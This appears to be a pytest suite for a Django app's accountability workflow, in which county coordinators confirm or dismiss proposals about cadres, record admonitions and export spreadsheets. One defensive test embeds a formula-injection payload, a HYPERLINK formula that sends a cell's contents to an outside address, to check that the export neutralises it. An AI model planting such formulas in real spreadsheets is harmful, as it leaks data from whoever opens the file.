"""A coordinator in scope confirms or dismisses a proposal with a reason, then records the action; the API answers
problem+json; the cadre's record page shows what was done; the lists export to .xlsx."""

import io
import json

import pytest
from python_calamine import CalamineWorkbook

from tests.conftest import at
from whistle.accountability.evaluation import evaluate_rules
from whistle.accountability.models import AccountabilityAction, Proposal
from whistle.org.services import token_issue


@pytest.fixture
def proposal(month_ratings):
    evaluate_rules(at(2026, 11, 3))
    return Proposal.objects.get(subject="cadre", action="admonition")  # 王强, 单县住建局


def api(client, heze, user, method, path, body=None):
    token = token_issue(getattr(heze.users, user))[0]
    kwargs = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    if method == "get":
        return client.get(path, **kwargs)
    return client.post(path, json.dumps(body, ensure_ascii=False), content_type="application/json", **kwargs)


def test_rule_8_4_coordinator_confirms_then_records_a_talk_with_date_participants_outcome(client, heze, proposal):
    base = f"/api/v1/accountability/proposals/{proposal.pk}"
    r = api(
        client, heze, "shan_office", "post", f"{base}/decision", {"decision": "confirm", "reason": "差评属实，需约谈"}
    )
    assert r.status_code == 200 and r.json()["state"] == "confirmed"
    r = api(
        client,
        heze,
        "shan_office",
        "post",
        f"{base}/actions",
        {
            "kind": "admonition",
            "held_on": "2026-11-20",
            "participants": "单县吹哨办主任、王强",
            "outcome": "指出问题，限期整改",
        },
    )
    assert r.status_code == 201, r.content
    assert r.json()["kind_label"] == "约谈"
    body = api(client, heze, "shan_office", "get", base).json()
    assert [a["participants"] for a in body["actions"]] == ["单县吹哨办主任、王强"]
    assert body["evidence"]["months"][0]["month"] == "2026-09"


def test_decision_needs_reason_and_happens_once(client, heze, proposal):
    path = f"/api/v1/accountability/proposals/{proposal.pk}/decision"
    r = api(client, heze, "shan_office", "post", path, {"decision": "dismiss", "reason": "  "})
    assert r.status_code == 422 and r["Content-Type"] == "application/problem+json"
    assert (r.json()["code"], r.json()["field"]) == ("reason_required", "reason")
    r = api(client, heze, "shan_office", "post", path, {"decision": "maybe", "reason": "x"})
    assert r.json()["code"] == "invalid_decision"
    assert (
        api(
            client, heze, "shan_office", "post", path, {"decision": "dismiss", "reason": "评价集中于系统故障当日"}
        ).status_code
        == 200
    )
    r = api(client, heze, "shan_office", "post", path, {"decision": "confirm", "reason": "改主意"})
    assert (r.status_code, r.json()["code"]) == (409, "proposal_already_decided")
    proposal.refresh_from_db()
    assert (proposal.state, proposal.decision_reason) == ("dismissed", "评价集中于系统故障当日")


def test_outside_scope_is_404_like_missing_and_other_roles_cannot_decide(client, heze, proposal):
    path = f"/api/v1/accountability/proposals/{proposal.pk}/decision"
    body = {"decision": "confirm", "reason": "属实"}
    for user in ("cao_office", "shan_zjj", "city_leader", "auditor"):
        r = api(client, heze, user, "post", path, body)
        assert (r.status_code, r.json()["code"]) == (404, "proposal_not_found"), user
    missing = api(client, heze, "shan_office", "post", "/api/v1/accountability/proposals/999999/decision", body)
    assert missing.json()["code"] == "proposal_not_found"
    # The 曹县 office does not even see it; the city office and the auditor do.
    assert api(client, heze, "cao_office", "get", "/api/v1/accountability/proposals").json()["count"] == 0
    assert api(client, heze, "auditor", "get", "/api/v1/accountability/proposals?state=pending").json()["count"] == 2
    assert api(client, heze, "city_office", "post", path, body).status_code == 200


def test_action_only_on_confirmed_proposal_and_not_in_the_future(client, heze, proposal):
    path = f"/api/v1/accountability/proposals/{proposal.pk}/actions"
    good = {"kind": "admonition", "held_on": "2026-11-20", "participants": "王强", "outcome": "已约谈"}
    r = api(client, heze, "shan_office", "post", path, good)
    assert (r.status_code, r.json()["code"]) == (409, "proposal_not_confirmed")
    api(
        client,
        heze,
        "shan_office",
        "post",
        path.replace("actions", "decision"),
        {"decision": "confirm", "reason": "属实"},
    )
    assert (
        api(client, heze, "shan_office", "post", path, {**good, "held_on": "2099-01-01"}).json()["code"]
        == "held_on_in_future"
    )
    assert api(client, heze, "shan_office", "post", path, {**good, "kind": "fire"}).json()["code"] == "invalid_kind"
    assert api(client, heze, "shan_office", "post", path, {**good, "outcome": ""}).json()["field"] == "outcome"
    assert api(client, heze, "shan_office", "post", path, {**good, "held_on": "20-11"}).status_code == 422
    assert AccountabilityAction.objects.count() == 0
    assert api(client, heze, "shan_office", "post", path, {**good, "kind": "circular"}).status_code == 201


def test_pages_list_decide_record_and_cadre_record(client, heze, proposal):
    client.force_login(heze.users.shan_office)
    listing = client.get("/accountability/")
    assert listing.status_code == 200 and "王强" in listing.content.decode()
    assert 'href="/accountability/"' in listing.content.decode()  # nav link
    detail = client.get(f"/accountability/proposals/{proposal.pk}/").content.decode()
    assert "2026-09：县区级干部第3名（共3名）" in detail
    r = client.post(f"/accountability/proposals/{proposal.pk}/decide", {"decision": "confirm", "reason": ""})
    assert r.status_code == 422 and "请填写理由" in r.content.decode()
    r = client.post(f"/accountability/proposals/{proposal.pk}/decide", {"decision": "confirm", "reason": "属实"})
    assert r.status_code == 302
    r = client.post(
        f"/accountability/proposals/{proposal.pk}/actions",
        {"kind": "reassignment", "held_on": "2026-11-21", "participants": "单县住建局党组", "outcome": "调离窗口岗位"},
    )
    assert r.status_code == 302
    record = client.get(f"/accountability/cadres/{proposal.cadre_id}/").content.decode()
    assert "调整" in record and "调离窗口岗位" in record and "单县住建局党组" in record
    assert f"/r/{proposal.cadre.card_code}/card.svg" in record
    client.force_login(heze.users.cao_office)
    assert client.get(f"/accountability/cadres/{proposal.cadre_id}/").status_code == 404
    assert client.get(f"/accountability/proposals/{proposal.pk}/").status_code == 404


def test_export_has_proposals_and_actions_in_scope(client, heze, proposal):
    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = (
        "confirmed",
        heze.users.shan_office,
        "属实",
        at(2026, 11, 4),
    )
    proposal.save()
    AccountabilityAction.objects.create(
        proposal=proposal,
        kind="admonition",
        held_on=at(2026, 11, 5).date(),
        participants="王强",
        outcome="已约谈",
        recorded_by=heze.users.shan_office,
        recorded_at=at(2026, 11, 5),
    )
    client.force_login(heze.users.shan_office)
    r = client.get("/accountability/export.xlsx")
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(r.streaming_content)))
    proposals = book.get_sheet_by_name("问责建议").to_python()
    assert proposals[0][:4] == ["编号", "建议措施", "对象类型", "对象"]
    assert {row[3] for row in proposals[1:]} == {"王强", "单县住房和城乡建设局"}
    actions = book.get_sheet_by_name("问责记录").to_python()
    assert actions[1][1:3] == ["约谈", "王强"] and actions[1][6] == "已约谈"


def test_bad_input_is_4xx_never_500(client, heze, proposal):
    base = "/api/v1/accountability/proposals"
    for path, body in [
        (f"{base}/{proposal.pk}/decision", {"decision": "confirm", "reason": "a\x00b"}),
        (f"{base}/{proposal.pk}/decision", {"decision": None, "reason": 5}),
        (f"{base}/{2**70}/decision", {"decision": "confirm", "reason": "x"}),
        (f"{base}/-1/actions", {"kind": "admonition", "held_on": "2026-11-01", "participants": "a", "outcome": "b"}),
        (
            f"{base}/{proposal.pk}/actions",
            {"kind": "admonition", "held_on": "2026-13-45", "participants": "a", "outcome": "b"},
        ),
    ]:
        r = api(client, heze, "shan_office", "post", path, body)
        assert 400 <= r.status_code < 500 and r["Content-Type"] == "application/problem+json", (path, body, r.content)
    assert api(client, heze, "shan_office", "get", f"{base}/{2**70}").status_code in (404, 422)
    assert api(client, heze, "shan_office", "get", f"{base}?state=nope").json()["code"] == "invalid_state"
    proposal.refresh_from_db()
    assert proposal.state == "pending"


def test_export_writes_user_text_as_text_in_the_accountability_export(client, heze, proposal):
    """Issue 13.2: a decision reason and an outcome typed as formulas reach the coordinator's Excel as text."""
    import zipfile

    formula = '=HYPERLINK("http://x?"&B2,"点我")'
    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = (
        "confirmed",
        heze.users.shan_office,
        formula,
        at(2026, 11, 4),
    )
    proposal.save()
    AccountabilityAction.objects.create(
        proposal=proposal,
        kind="admonition",
        held_on=at(2026, 11, 5).date(),
        participants="+王强",
        outcome=formula,
        recorded_by=heze.users.shan_office,
        recorded_at=at(2026, 11, 5),
    )
    client.force_login(heze.users.shan_office)
    body = b"".join(client.get("/accountability/export.xlsx").streaming_content)
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheets_xml = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets_xml and not any("<f>" in x or "<f " in x for x in sheets_xml)
    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
    proposals = {int(r[0]): r for r in book.get_sheet_by_name("问责建议").to_python()[1:]}
    assert proposals[proposal.pk][11] == formula
    assert book.get_sheet_by_name("问责记录").to_python()[1][5:7] == ["+王强", formula]


def test_auditors_cadre_page_offers_no_card_file_it_cannot_download(heze, client):
    """Issue 14, item 21: the card .svg answers 404 to an auditor, so the page no longer links it."""
    from whistle.ratings.models import Cadre

    cadre = Cadre.objects.create(unit=heze.shan_zjj, name="王强", post="科长")
    client.force_login(heze.users.auditor)
    page = client.get(f"/accountability/cadres/{cadre.pk}/").content.decode()
    assert "公开页面" in page and "下载A6卡片" not in page
    assert client.get(f"/r/{cadre.card_code}/card.svg").status_code == 404
    client.force_login(heze.users.shan_office)
    page = client.get(f"/accountability/cadres/{cadre.pk}/").content.decode()
    href = f"/r/{cadre.card_code}/card.svg"
    assert href in page and client.get(href).status_code == 200
